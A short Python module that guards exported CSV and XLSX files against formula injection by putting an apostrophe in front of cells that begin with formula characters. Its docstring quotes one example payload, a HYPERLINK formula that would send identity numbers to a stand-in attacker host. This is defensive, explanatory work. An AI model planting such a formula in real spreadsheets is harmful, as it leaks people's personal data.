"""Cells for the spreadsheets the project writes (CSV and XLSX): text that a spreadsheet program
would run as a formula is written as plain text. No Django import.

A participant named `=HYPERLINK("http://evil.example/?x="&C2,"…")` would otherwise become a live
formula in an officer's Excel, sending the NIKs of column C away on one click. Every writer passes
each cell, headers included, through `safe_cell` (or a whole row through `safe_row`).
"""

from collections.abc import Iterable
from typing import Any

# What a spreadsheet reads as the start of a formula (OWASP's list, "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value to write into a cell. Text that starts like a formula gets an apostrophe in front,
    as Excel itself does for text typed so; `+62 812…` still reads as the phone number, and our
    importer drops the apostrophe. Numbers, dates, booleans and None are written as they are: a
    numeric cell is never a formula, and a negative number stays a number."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]
